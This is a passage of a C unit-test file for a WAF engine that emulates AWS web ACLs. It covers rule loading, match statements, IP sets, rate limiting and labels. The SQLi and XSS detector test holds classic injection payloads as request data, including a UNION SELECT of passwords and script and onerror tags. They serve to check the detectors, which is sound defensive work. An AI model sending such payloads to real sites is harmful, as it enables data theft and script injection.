/* Unit tests for the WAF engine: loading, every statement, field, transformation and action. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <cjson/cJSON.h>
#include <pcre2.h>

#include "sluice/error.h"
#include "sluice/waf.h"
#include "waf_internal.h"

/* ---- helpers ------------------------------------------------------------------------------ */

/* JSON written with single quotes (readable in C), turned into real JSON. */
static char *json_of(const char *sq) {
    char *s = strdup(sq);
    for (char *p = s; *p; p++)
        if (*p == '\'')
            *p = '"';
    return s;
}

static int64_t fake_now;
static int64_t fake_clock(void *data) {
    (void)data;
    return fake_now;
}

static struct sl_waf *open_acl(const char *sq) {
    char *j = json_of(sq);
    struct sl_buf err;
    sl_buf_init(&err, 1 << 16);
    struct sl_waf_opts o = {.clock_ms = fake_clock};
    struct sl_waf *w = NULL;
    int rc = sl_waf_open_json(&o, j, strlen(j), &w, &err);
    if (rc)
        fprintf(stderr, "load failed: %s", err.data ? err.data : "");
    assert_int_equal(rc, 0);
    sl_buf_free(&err);
    free(j);
    return w;
}

/* The errors a document gives (first line), or "" when it loads. */
static char errbuf[4096];
static const char *load_error(const char *sq) {
    char *j = json_of(sq);
    struct sl_buf err;
    sl_buf_init(&err, 1 << 16);
    struct sl_waf *w = NULL;
    int rc = sl_waf_open_json(NULL, j, strlen(j), &w, &err);
    snprintf(errbuf, sizeof errbuf, "%s", err.data ? err.data : "");
    if (rc == 0)
        sl_waf_free(w);
    else
        assert_int_equal(rc, SL_ERR_PARSE);
    sl_buf_free(&err);
    free(j);
    char *nl = strchr(errbuf, '\n');
    if (nl)
        *nl = '\0';
    return errbuf;
}

struct req {
    struct sl_http_request r;
    struct sl_http_header h[16];
};

/* A request: target splits into path and query; headers are "Name: value" strings. */
static void mk(struct req *q, const char *method, const char *target, const char *body, ...) {
    memset(q, 0, sizeof *q);
    q->r.method = (struct sl_str){method, strlen(method)};
    q->r.url = (struct sl_str){target, strlen(target)};
    const char *qm = strchr(target, '?');
    q->r.path = (struct sl_str){target, qm ? (size_t)(qm - target) : strlen(target)};
    q->r.query = qm ? (struct sl_str){qm + 1, strlen(qm + 1)} : (struct sl_str){"", 0};
    q->r.body = body ? body : "";
    q->r.body_len = body ? strlen(body) : 0;
    va_list ap;
    va_start(ap, body);
    const char *h;
    while ((h = va_arg(ap, const char *)) && q->r.nheaders < 16) {
        const char *colon = strchr(h, ':');
        struct sl_http_header *x = &q->h[q->r.nheaders++];
        x->name = (struct sl_str){h, (size_t)(colon - h)};
        x->value = (struct sl_str){colon + 2, strlen(colon + 2)};
    }
    va_end(ap);
    q->r.headers = q->h;
}

static struct sl_waf_verdict judge(struct sl_waf *w, struct req *q, const char *ip) {
    struct sl_waf_verdict v;
    sl_waf_evaluate(w, &q->r, ip ? ip : "198.51.100.1", &v);
    return v;
}

#define UA "User-Agent: test/1"

/* A one-rule ACL blocking when `stmt` matches. */
#define ONE_RULE(stmt)                                                                             \
    "{'Name':'t','DefaultAction':{'Allow':{}},'Rules':[{'Name':'R','Priority':0,'Action':{"        \
    "'Block':{}},'VisibilityConfig':{'MetricName':'R'},'Statement':" stmt "}]}"

static bool blocks(struct sl_waf *w, const char *method, const char *target, const char *body,
                   const char *h1) {
    struct req q;
    mk(&q, method, target, body, UA, h1, NULL);
    return judge(w, &q, NULL).action == SL_WAF_BLOCK;
}

/* ---- loading ------------------------------------------------------------------------------ */

static void test_an_acl_with_no_rules_allows_by_default_action(void **state) {
    (void)state;
    struct sl_waf *w = open_acl("{'Name':'e','DefaultAction':{'Allow':{}},'Rules':[]}");
    struct req q;
    mk(&q, "GET", "/x", NULL, NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_ALLOW);
    assert_string_equal(v.rule, "Default_Action");
    assert_int_equal(v.nlabels, 0);
    assert_null(v.group_rule);
    sl_waf_free(w);
}

static void test_default_action_block_blocks_unmatched_requests(void **state) {
    (void)state;
    struct sl_waf *w = open_acl("{'Name':'e','DefaultAction':{'Block':{}},'Rules':[]}");
    struct req q;
    mk(&q, "GET", "/x", NULL, NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "Default_Action");
    assert_int_equal(v.custom_status, 0);
    sl_waf_free(w);
}

static void test_invalid_documents_name_the_json_path_and_reason(void **state) {
    (void)state;
    assert_string_equal(
        load_error("{'DefaultAction':{'Allow':{}},'Rules':[{'Name':'a','Priority':0,'Action':{"
                   "'Block':{}},'Statement':{'SizeConstraintStatement':{'FieldToMatch':{"
                   "'UriPath':{}},'ComparisonOperator':'GT','Size':1,'TextTransformations':[{"
                   "'Priority':0,'Type':'NONE'}]}}},{'Name':'b','Priority':1,'Action':{'Block':{}"
                   "},'Statement':{'SizeConstraintStatement':{'FieldToMatch':{'UriPath':{}},"
                   "'ComparisonOperator':'GT','Size':1,'TextTransformations':[{'Priority':0,"
                   "'Type':'NONE'}]}}},{'Name':'c','Priority':2,'Action':{'Block':{}},"
                   "'Statement':{'ByteMatchStatement':{'SearchString':'x','FieldToMatch':{"
                   "'UriPath':{}},'PositionalConstraint':'START','TextTransformations':[{"
                   "'Priority':0,'Type':'NONE'}]}}}]}"),
        "web ACL: Rules[2].Statement.ByteMatchStatement.PositionalConstraint: \"START\" is not "
        "one of EXACTLY, STARTS_WITH, ENDS_WITH, CONTAINS, CONTAINS_WORD");
    assert_string_equal(load_error("{'Rules':[]}"), "web ACL: DefaultAction: missing");
    assert_string_equal(load_error("{'DefaultAction':{'Allow':{}},'Rules':[{'Name':'a','Priority'"
                                   ":0,'Action':{'Block':{}},'Statement':{'FooStatement':{}}}]}"),
                        "web ACL: Rules[0].Statement.FooStatement: unknown statement");
    assert_string_equal(
        load_error(ONE_RULE("{'RegexMatchStatement':{'RegexString':'a(','FieldToMatch':{"
                            "'UriPath':{}},'TextTransformations':[{'Priority':0,'Type':'NONE'}]"
                            "}}")),
        "web ACL: Rules[0].Statement.RegexMatchStatement.RegexString: invalid regex at offset 2: "
        "missing closing parenthesis");
    assert_string_equal(load_error("{'DefaultAction':{'Allow':{}},'Rules':[{'Name':'a','Priority'"
                                   ":0,'Action':{'Count':{}},'Statement':{'LabelMatchStatement':{"
                                   "'Scope':'LABEL','Key':'x'}}},{'Name':'b','Priority':0,"
                                   "'Action':{'Count':{}},'Statement':{'LabelMatchStatement':{"
                                   "'Scope':'LABEL','Key':'x'}}}]}"),
                        "web ACL: Rules[1].Priority: 0 is also the priority of Rules[0]");
    assert_string_equal(
        load_error(ONE_RULE("{'NotStatement':{'Statement':{'RateBasedStatement':{'Limit':100,"
                            "'AggregateKeyType':'IP'}}}}")),
        "web ACL: Rules[0].Statement.NotStatement.Statement.RateBasedStatement: a "
        "RateBasedStatement must be a rule's top-level statement");
    assert_string_equal(
        load_error(ONE_RULE("{'RateBasedStatement':{'Limit':100,'EvaluationWindowSec':90,"
                            "'AggregateKeyType':'IP'}}")),
        "web ACL: Rules[0].Statement.RateBasedStatement.EvaluationWindowSec: 90 is not one of 60, "
        "120, 300, 600");
    assert_string_equal(
        load_error(ONE_RULE("{'IPSetReferenceStatement':{'Addresses':['10.0.0.0/8','10.1/33']}}")),
        "web ACL: Rules[0].Statement.IPSetReferenceStatement.Addresses[1]: not a CIDR "
        "(\"192.0.2.0/24\", \"2001:db8::/32\")");
    assert_string_equal(
        load_error("{'DefaultAction':{'Allow':{}},'Rules':[{'Name':'g','Priority':0,"
                   "'OverrideAction':{'None':{}},'Statement':{'ManagedRuleGroupStatement':{"
                   "'VendorName':'AWS','Name':'AWSManagedRulesPHPRuleSet'}}}]}"),
        "web ACL: Rules[0].Statement.ManagedRuleGroupStatement.Name: "
        "\"AWS/AWSManagedRulesPHPRuleSet\" is not a rule group Sluice ships "
        "(AWS/AWSManagedRulesCommonRuleSet, AWS/AWSManagedRulesKnownBadInputsRuleSet, "
        "AWS/AWSManagedRulesSQLiRuleSet)");
    assert_string_equal(
        load_error("{'DefaultAction':{'Allow':{}},'Rules':[{'Name':'g','Priority':0,"
                   "'OverrideAction':{'None':{}},'Statement':{'ManagedRuleGroupStatement':{"
                   "'VendorName':'AWS','Name':'AWSManagedRulesCommonRuleSet','ExcludedRules':[{"
                   "'Name':'NoSuchRule'}]}}}]}"),
        "web ACL: Rules[0].Statement.ManagedRuleGroupStatement.ExcludedRules[0].Name: "
        "\"NoSuchRule\" is not a rule of AWSManagedRulesCommonRuleSet");
    assert_string_equal(load_error(ONE_RULE("{'XssMatchStatement':{'FieldToMatch':{'UriPath':{}},"
                                            "'TextTransformations':[{'Priority':0,'Type':"
                                            "'ROT13'}]}}")),
                        "web ACL: Rules[0].Statement.XssMatchStatement.TextTransformations[0]."
                        "Type: \"ROT13\" is not one of NONE, URL_DECODE, URL_DECODE_UNI, "
                        "HTML_ENTITY_DECODE, LOWERCASE, COMPRESS_WHITE_SPACE, CMD_LINE, "
                        "NORMALIZE_PATH, NORMALIZE_PATH_WIN, REMOVE_NULLS, REPLACE_NULLS, "
                        "REPLACE_COMMENTS, JS_DECODE, CSS_DECODE, BASE64_DECODE, "
                        "BASE64_DECODE_EXT, HEX_DECODE, SQL_HEX_DECODE, ESCAPE_SEQ_DECODE");
    assert_string_equal(load_error("[1,"), "web ACL: $: not valid JSON (near byte 2)");
    assert_string_equal(
        load_error("{'DefaultAction':{'Captcha':{}},'Rules':[]}"),
        "web ACL: DefaultAction.Captcha: not supported by Sluice (use Block or Count)");
}

static void test_bare_rules_list_webacl_wrapper_and_camel_case_all_load(void **state) {
    (void)state;
    struct sl_waf *w = open_acl("[{'Name':'r','Priority':0,'Action':{'Block':{}},'Statement':{"
                                "'ByteMatchStatement':{'SearchString':'/admin','FieldToMatch':{"
                                "'UriPath':{}},'PositionalConstraint':'STARTS_WITH',"
                                "'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}}]");
    assert_true(blocks(w, "GET", "/admin/x", NULL, NULL));
    assert_false(blocks(w, "GET", "/x/admin", NULL, NULL));
    sl_waf_free(w);
    w = open_acl("{'WebACL':{'Name':'n','DefaultAction':{'Block':{}},'Rules':[]}}");
    assert_true(blocks(w, "GET", "/", NULL, NULL));
    sl_waf_free(w);
    /* CDK spells the same document in camelCase (the seed's stack does). */
    w = open_acl("{'name':'cdk','defaultAction':{'allow':{}},'rules':[{'name':'m','priority':1,"
                 "'statement':{'byteMatchStatement':{'searchString':'PUT','fieldToMatch':{"
                 "'method':{}},'positionalConstraint':'EXACTLY','textTransformations':[{"
                 "'priority':0,'type':'NONE'}]}},'action':{'block':{}}}]}");
    assert_true(blocks(w, "PUT", "/", NULL, NULL));
    assert_false(blocks(w, "GET", "/", NULL, NULL));
    sl_waf_free(w);
}

/* ---- statements --------------------------------------------------------------------------- */

#define BYTE(s, pos)                                                                               \
    ONE_RULE("{'ByteMatchStatement':{'SearchString':'" s "','FieldToMatch':{'QueryString':{}},"    \
             "'PositionalConstraint':'" pos "','TextTransformations':[{'Priority':0,'Type':"       \
             "'NONE'}]}}")

static void test_byte_match_honours_every_positional_constraint(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(BYTE("abc", "EXACTLY"));
    assert_true(blocks(w, "GET", "/?abc", NULL, NULL));
    assert_false(blocks(w, "GET", "/?abcd", NULL, NULL));
    assert_false(blocks(w, "GET", "/?ABC", NULL, NULL)); /* case-sensitive without LOWERCASE */
    sl_waf_free(w);
    w = open_acl(BYTE("abc", "STARTS_WITH"));
    assert_true(blocks(w, "GET", "/?abcd", NULL, NULL));
    assert_false(blocks(w, "GET", "/?xabc", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(BYTE("abc", "ENDS_WITH"));
    assert_true(blocks(w, "GET", "/?xabc", NULL, NULL));
    assert_false(blocks(w, "GET", "/?abcx", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(BYTE("abc", "CONTAINS"));
    assert_true(blocks(w, "GET", "/?xxabcxx", NULL, NULL));
    assert_false(blocks(w, "GET", "/?ab-c", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(BYTE("abc", "CONTAINS_WORD"));
    assert_true(blocks(w, "GET", "/?x=abc;", NULL, NULL));
    assert_true(blocks(w, "GET", "/?abc", NULL, NULL));
    assert_false(blocks(w, "GET", "/?x=abcd", NULL, NULL));
    assert_false(blocks(w, "GET", "/?x=_abc", NULL, NULL));
    sl_waf_free(w);
}

static void test_byte_match_accepts_a_base64_search_string(void **state) {
    (void)state;
    struct sl_waf *w =
        open_acl(ONE_RULE("{'ByteMatchStatement':{'SearchStringBase64':'ZXZpbA==','FieldToMatch':{"
                          "'UriPath':{}},'PositionalConstraint':'CONTAINS','TextTransformations':[{"
                          "'Priority':0,'Type':'NONE'}]}}"));
    assert_true(blocks(w, "GET", "/evil", NULL, NULL));
    assert_false(blocks(w, "GET", "/good", NULL, NULL));
    sl_waf_free(w);
}

static void test_regex_match_uses_pcre_syntax(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        ONE_RULE("{'RegexMatchStatement':{'RegexString':'^/v[0-9]+/(?:admin|root)\\\\b',"
                 "'FieldToMatch':{'UriPath':{}},'TextTransformations':[{'Priority':0,'Type':"
                 "'LOWERCASE'}]}}"));
    assert_true(blocks(w, "GET", "/V2/Admin/x", NULL, NULL));
    assert_false(blocks(w, "GET", "/v2/administrator", NULL, NULL));
    assert_false(blocks(w, "GET", "/x/v2/admin", NULL, NULL));
    sl_waf_free(w);
}

static void test_regex_pattern_set_reference_resolves_by_arn(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        "{'DefaultAction':{'Allow':{}},'RegexPatternSets':[{'Name':'bad','ARN':'arn:aws:wafv2:"
        "us-east-1:111122223333:regional/regexpatternset/bad/1','RegularExpressionList':[{"
        "'RegexString':'^foo'},{'RegexString':'bar$'}]}],'Rules':[{'Name':'r','Priority':0,"
        "'Action':{'Block':{}},'Statement':{'RegexPatternSetReferenceStatement':{'ARN':'arn:aws:"
        "wafv2:us-east-1:111122223333:regional/regexpatternset/bad/1','FieldToMatch':{'UriPath':{"
        "}},'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}}]}");
    assert_true(blocks(w, "GET", "/bar", NULL, NULL));
    assert_false(blocks(w, "GET", "/foo", NULL, NULL)); /* the path starts with '/' */
    sl_waf_free(w);
}

#define SIZE(op, n)                                                                                \
    ONE_RULE("{'SizeConstraintStatement':{'FieldToMatch':{'QueryString':{}},"                      \
             "'ComparisonOperator':'" op "','Size':" n ",'TextTransformations':[{'Priority':0,"    \
             "'Type':'NONE'}]}}")

static void test_size_constraint_compares_with_every_operator(void **state) {
    (void)state;
    const struct {
        const char *acl;
        bool at3, at4, at5;
    } cases[] = {
        {SIZE("EQ", "4"), false, true, false}, {SIZE("NE", "4"), true, false, true},
        {SIZE("LE", "4"), true, true, false},  {SIZE("LT", "4"), true, false, false},
        {SIZE("GE", "4"), false, true, true},  {SIZE("GT", "4"), false, false, true},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct sl_waf *w = open_acl(cases[i].acl);
        assert_int_equal(blocks(w, "GET", "/?abc", NULL, NULL), cases[i].at3);
        assert_int_equal(blocks(w, "GET", "/?abcd", NULL, NULL), cases[i].at4);
        assert_int_equal(blocks(w, "GET", "/?abcde", NULL, NULL), cases[i].at5);
        sl_waf_free(w);
    }
}

static void test_sqli_and_xss_statements_call_the_detectors(void **state) {
    (void)state;
    struct sl_waf *w =
        open_acl(ONE_RULE("{'SqliMatchStatement':{'FieldToMatch':{'AllQueryArguments':{}},"
                          "'SensitivityLevel':'LOW','TextTransformations':[{'Priority':0,'Type':"
                          "'URL_DECODE'}]}}"));
    assert_true(blocks(w, "GET", "/?id=1%27%20OR%20%271%27%3D%271", NULL, NULL));
    assert_true(
        blocks(w, "GET", "/?id=1%20UNION%20SELECT%20password%20FROM%20users--", NULL, NULL));
    assert_false(blocks(w, "GET", "/?id=42&name=O%27Brien", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(ONE_RULE("{'XssMatchStatement':{'FieldToMatch':{'Body':{}},"
                          "'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}"));
    assert_true(blocks(w, "POST", "/", "<script>alert(1)</script>", NULL));
    assert_true(blocks(w, "POST", "/", "<img src=x onerror=alert(1)>", NULL));
    assert_false(blocks(w, "POST", "/", "{\"comment\":\"3 < 4 and 5 > 2\"}", NULL));
    sl_waf_free(w);
}

static void test_ip_set_matches_ipv4_and_ipv6_cidrs(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(ONE_RULE(
        "{'IPSetReferenceStatement':{'Addresses':['192.0.2.0/24','2001:db8::/32','203.0.113.7']}"
        "}"));
    struct req q;
    mk(&q, "GET", "/", NULL, UA, NULL);
    assert_int_equal(judge(w, &q, "192.0.2.200").action, SL_WAF_BLOCK);
    assert_int_equal(judge(w, &q, "192.0.3.1").action, SL_WAF_ALLOW);
    assert_int_equal(judge(w, &q, "2001:db8:1::5").action, SL_WAF_BLOCK);
    assert_int_equal(judge(w, &q, "2001:db9::5").action, SL_WAF_ALLOW);
    assert_int_equal(judge(w, &q, "203.0.113.7").action, SL_WAF_BLOCK);
    assert_int_equal(judge(w, &q, "203.0.113.8").action, SL_WAF_ALLOW);
    assert_int_equal(judge(w, &q, "::ffff:192.0.2.9").action, SL_WAF_BLOCK);
    sl_waf_free(w);
}

static void test_ip_set_reference_by_arn_and_forwarded_ip_config(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        "{'DefaultAction':{'Allow':{}},'IPSets':[{'ARN':'arn:aws:wafv2:us-east-1:1:regional/"
        "ipset/blocked/x','Addresses':['10.0.0.0/8']}],'Rules':[{'Name':'r','Priority':0,"
        "'Action':{'Block':{}},'Statement':{'IPSetReferenceStatement':{'ARN':'arn:aws:wafv2:us-"
        "east-1:1:regional/ipset/blocked/x','IPSetForwardedIPConfig':{'HeaderName':'X-Client-IP',"
        "'FallbackBehavior':'MATCH','Position':'ANY'}}}}]}");
    struct req q;
    mk(&q, "GET", "/", NULL, UA, "X-Client-IP: 198.51.100.1, 10.2.3.4", NULL);
    assert_int_equal(judge(w, &q, "1.1.1.1").action, SL_WAF_BLOCK);
    mk(&q, "GET", "/", NULL, UA, "X-Client-IP: 198.51.100.1", NULL);
    assert_int_equal(judge(w, &q, "10.0.0.1").action, SL_WAF_ALLOW); /* the header decides */
    mk(&q, "GET", "/", NULL, UA, "X-Client-IP: garbage", NULL);
    assert_int_equal(judge(w, &q, "1.1.1.1").action, SL_WAF_BLOCK); /* FallbackBehavior MATCH */
    mk(&q, "GET", "/", NULL, UA, NULL);
    assert_int_equal(judge(w, &q, "1.1.1.1").action, SL_WAF_BLOCK); /* absent: fallback too */
    sl_waf_free(w);
}

/* Behind trusted proxies only (the gateway's way), a forwarded header from any other peer is as
 * if absent: the fallback decides, not what the client wrote. */
static void test_forwarded_ip_is_read_only_from_a_trusted_proxy(void **state) {
    (void)state;
    char *doc =
        json_of("{'DefaultAction':{'Allow':{}},'IPSets':[{'ARN':'a','Addresses':['192.0.2.0/24']}],"
                "'Rules':[{'Name':'r','Priority':0,'Action':{'Block':{}},'Statement':{"
                "'IPSetReferenceStatement':{'ARN':'a','IPSetForwardedIPConfig':{'HeaderName':"
                "'X-Forwarded-For','FallbackBehavior':'NO_MATCH','Position':'LAST'}}}}]}");
    struct sl_cidr proxies[1];
    assert_int_equal(sl_addr_parse_cidr(&proxies[0], "10.0.0.0/8", 10), 0);
    struct sl_waf_opts o = {.clock_ms = fake_clock,
                            .forwarded_from_trusted_only = true,
                            .trusted_proxies = proxies,
                            .ntrusted_proxies = 1};
    struct sl_buf err;
    sl_buf_init(&err, 1 << 16);
    struct sl_waf *w = NULL;
    assert_int_equal(sl_waf_open_json(&o, doc, strlen(doc), &w, &err), 0);
    struct req q;
    mk(&q, "GET", "/", NULL, UA, "X-Forwarded-For: 192.0.2.7", NULL);
    assert_int_equal(sl_addr_parse(&q.r.peer, "10.1.1.1", 8), 0);
    assert_int_equal(judge(w, &q, "10.1.1.1").action, SL_WAF_BLOCK);
    assert_int_equal(sl_addr_parse(&q.r.peer, "203.0.113.1", 11), 0);
    assert_int_equal(judge(w, &q, "203.0.113.1").action, SL_WAF_ALLOW);
    sl_waf_free(w);
    sl_buf_free(&err);
    free(doc);
}

static void test_rate_based_rule_blocks_over_the_limit_until_the_window_passes(void **state) {
    (void)state;
    fake_now = 1000000;
    struct sl_waf *w = open_acl(ONE_RULE(
        "{'RateBasedStatement':{'Limit':10,'EvaluationWindowSec':60,'AggregateKeyType':'IP'}}"));
    struct req q;
    mk(&q, "GET", "/", NULL, UA, NULL);
    for (int i = 1; i <= 10; i++) {
        struct sl_waf_verdict v = judge(w, &q, "192.0.2.1");
        assert_int_equal(v.action, SL_WAF_ALLOW);
        fake_now += 100;
    }
    struct sl_waf_verdict v = judge(w, &q, "192.0.2.1");
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "R");
    assert_int_equal(judge(w, &q, "192.0.2.1").action, SL_WAF_BLOCK);
    /* Another address has its own count. */
    assert_int_equal(judge(w, &q, "192.0.2.2").action, SL_WAF_ALLOW);
    /* 30 s later the requests are still inside the 60 s window. */
    fake_now += 30000;
    assert_int_equal(judge(w, &q, "192.0.2.1").action, SL_WAF_BLOCK);
    /* Once the window (plus one 6 s slot of granularity) has passed, the address is let through. */
    fake_now += 66000;
    assert_int_equal(judge(w, &q, "192.0.2.1").action, SL_WAF_ALLOW);
    sl_waf_free(w);
}

static struct sl_waf *default_acl(void);

/* The shipped web ACL's RateLimitRule at its real numbers: 2,000 requests per address in 300 s,
 * on the test's clock (no five-minute sleep). */
static void test_default_acl_rate_rule_allows_2000_per_5_minutes_per_address(void **state) {
    (void)state;
    fake_now = 50000000;
    struct sl_waf *w = default_acl();
    struct req q;
    char url[32];
    for (int i = 0; i < 2000; i++) { /* one every 120 ms: 2,000 within 240 s */
        snprintf(url, sizeof url, "/items/%d", i);
        mk(&q, "GET", url, NULL, UA, NULL);
        struct sl_waf_verdict v = judge(w, &q, "203.0.113.7");
        assert_int_equal(v.action, SL_WAF_ALLOW);
        fake_now += 120;
    }
    mk(&q, "GET", "/items/2000", NULL, UA, NULL);
    struct sl_waf_verdict v = judge(w, &q, "203.0.113.7");
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "RateLimitRule");
    assert_int_equal(judge(w, &q, "203.0.113.8").action, SL_WAF_ALLOW); /* its own count */
    /* Still blocked 250 s after the first request (inside the 300 s window) ... */
    fake_now += 10000;
    assert_int_equal(judge(w, &q, "203.0.113.7").action, SL_WAF_BLOCK);
    /* ... and let through once the window and one 30 s slot have passed since the last. */
    fake_now += 330000;
    assert_int_equal(judge(w, &q, "203.0.113.7").action, SL_WAF_ALLOW);
    sl_waf_free(w);
}

static void test_rate_based_scope_down_and_forwarded_ip_and_constant_keys(void **state) {
    (void)state;
    fake_now = 0;
    struct sl_waf *w = open_acl(ONE_RULE(
        "{'RateBasedStatement':{'Limit':10,'EvaluationWindowSec':120,'AggregateKeyType':"
        "'FORWARDED_IP','ForwardedIPConfig':{'HeaderName':'X-Forwarded-For','FallbackBehavior':"
        "'NO_MATCH'},'ScopeDownStatement':{'ByteMatchStatement':{'SearchString':'/login',"
        "'FieldToMatch':{'UriPath':{}},'PositionalConstraint':'EXACTLY','TextTransformations':[{"
        "'Priority':0,'Type':'NONE'}]}}}}"));
    struct req login, other;
    mk(&login, "POST", "/login", NULL, UA, "X-Forwarded-For: 203.0.113.5, 10.0.0.1", NULL);
    mk(&other, "GET", "/other", NULL, UA, "X-Forwarded-For: 203.0.113.5", NULL);
    for (int i = 0; i < 20; i++)
        assert_int_equal(judge(w, &other, NULL).action, SL_WAF_ALLOW); /* not in scope */
    for (int i = 0; i < 10; i++)
        assert_int_equal(judge(w, &login, "1.1.1.1").action, SL_WAF_ALLOW);
    /* Counted by the first forwarded address, not the peer. */
    assert_int_equal(judge(w, &login, "9.9.9.9").action, SL_WAF_BLOCK);
    sl_waf_free(w);
    w = open_acl(ONE_RULE("{'RateBasedStatement':{'Limit':10,'AggregateKeyType':'CONSTANT',"
                          "'ScopeDownStatement':{'ByteMatchStatement':{'SearchString':'POST',"
                          "'FieldToMatch':{'Method':{}},'PositionalConstraint':'EXACTLY',"
                          "'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}}}"));
    struct req post;
    mk(&post, "POST", "/", NULL, UA, NULL);
    char ip[32];
    for (int i = 0; i < 10; i++) {
        snprintf(ip, sizeof ip, "192.0.2.%d", i + 1);
        assert_int_equal(judge(w, &post, ip).action, SL_WAF_ALLOW);
    }
    assert_int_equal(judge(w, &post, "198.51.100.99").action, SL_WAF_BLOCK); /* one shared key */
    sl_waf_free(w);
}

static void test_rate_table_memory_is_bounded_and_evicts_the_stalest(void **state) {
    (void)state;
    struct gw_waf_rate *r;
    /* A window far longer than the test, so nothing expires: whatever is gone was evicted. */
    assert_int_equal(gw_waf_rate_new(16, 86400, 10, &r), 0);
    uint8_t key[16] = {0};
    for (int i = 0; i < 10000; i++) {
        memcpy(key, &i, sizeof i);
        assert_int_equal(gw_waf_rate_hit(r, key, i), 1);
    }
    int present = 0;
    for (int i = 0; i < 10000; i++) {
        memcpy(key, &i, sizeof i);
        present += gw_waf_rate_peek(r, key, 10000) > 0;
    }
    assert_in_range(present, 1, 16); /* 10,000 addresses, at most the table's 16 entries */
    int last = 9999;
    memcpy(key, &last, sizeof last);
    assert_int_equal(gw_waf_rate_peek(r, key, 10000), 1); /* the newest is always kept */
    gw_waf_rate_free(r);

    /* One window of ten 6 s slots. A hot key hit in every slot is never the stalest entry, so
     * 10,000 one-off keys passing through do not evict it: its count climbs to the window's 10
     * and stays there (an eviction would restart it at 1). */
    assert_int_equal(gw_waf_rate_new(16, 60, 10, &r), 0);
    uint8_t hot[16];
    memset(hot, 0xee, sizeof hot);
    for (int i = 0; i < 10000; i++) {
        int64_t now = (int64_t)i * 6000;
        memcpy(key, &i, sizeof i);
        assert_int_equal(gw_waf_rate_hit(r, key, now), 1);
        assert_int_equal(gw_waf_rate_hit(r, hot, now), i < 10 ? i + 1 : 10);
    }
    gw_waf_rate_free(r);
}

static void test_count_adds_labels_that_a_later_label_match_sees(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        "{'Name':'acl1','DefaultAction':{'Allow':{}},'Rules':["
        "{'Name':'tag','Priority':0,'Action':{'Count':{}},'RuleLabels':[{'Name':'suspect:ua'}],"
        "'Statement':{'ByteMatchStatement':{'SearchString':'curl','FieldToMatch':{'SingleHeader':"
        "{'Name':'User-Agent'}},'PositionalConstraint':'STARTS_WITH','TextTransformations':[{"
        "'Priority':0,'Type':'LOWERCASE'}]}}},"
        "{'Name':'deny','Priority':1,'Action':{'Block':{}},'Statement':{'AndStatement':{"
        "'Statements':[{'LabelMatchStatement':{'Scope':'LABEL','Key':'suspect:ua'}},{"
        "'ByteMatchStatement':{'SearchString':'/admin','FieldToMatch':{'UriPath':{}},"
        "'PositionalConstraint':'STARTS_WITH','TextTransformations':[{'Priority':0,'Type':'NONE'"
        "}]}}]}}},"
        "{'Name':'ns','Priority':2,'Action':{'Block':{}},'Statement':{'AndStatement':{"
        "'Statements':[{'LabelMatchStatement':{'Scope':'NAMESPACE','Key':'suspect:'}},{"
        "'ByteMatchStatement':{'SearchString':'/ns','FieldToMatch':{'UriPath':{}},"
        "'PositionalConstraint':'EXACTLY','TextTransformations':[{'Priority':0,'Type':'NONE'}]}"
        "}]}}}]}");
    struct req q;
    mk(&q, "GET", "/public", NULL, "User-Agent: Curl/8", NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_ALLOW);
    assert_string_equal(v.rule, "Default_Action");
    assert_int_equal(v.nlabels, 1);
    assert_string_equal(v.labels[0], "awswaf:000000000000:webacl:acl1:suspect:ua");
    mk(&q, "GET", "/admin", NULL, "User-Agent: curl/8", NULL);
    v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "deny");
    mk(&q, "GET", "/admin", NULL, "User-Agent: firefox", NULL);
    assert_int_equal(judge(w, &q, NULL).action, SL_WAF_ALLOW);
    mk(&q, "GET", "/ns", NULL, "User-Agent: curl", NULL);
    v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "ns");
    sl_waf_free(w);
}

#define BM(s, field)                                                                               \
    "{'ByteMatchStatement':{'SearchString':'" s "','FieldToMatch':" field                          \
    ",'PositionalConstraint':'CONTAINS','TextTransformations':[{'Priority':0,'Type':'NONE'}]}}"

static void test_and_or_not_combine_statements(void **state) {
    (void)state;
    struct sl_waf *w =
        open_acl(ONE_RULE("{'OrStatement':{'Statements':[{'AndStatement':{"
                          "'Statements':[" BM("a", "{'UriPath':{}}") "," BM(
                              "b", "{'UriPath':{}}") "]}},{'NotStatement':{"
                                                     "'Statement':" BM("/", "{'UriPath':{}}") "}"
                                                                                              "}]}"
                                                                                              "}"));
    assert_true(blocks(w, "GET", "/ab", NULL, NULL));
    assert_false(blocks(w, "GET", "/a", NULL, NULL));
    assert_false(blocks(w, "GET", "/b", NULL, NULL));
    assert_true(blocks(w, "GET", "*", NULL, NULL)); /* no '/' at all: the Not matches */
    sl_waf_free(w);
}

/* ---- fields ------------------------------------------------------------------------------- */

static void test_fields_inspect_the_parts_aws_names(void **state) {
    (void)state;
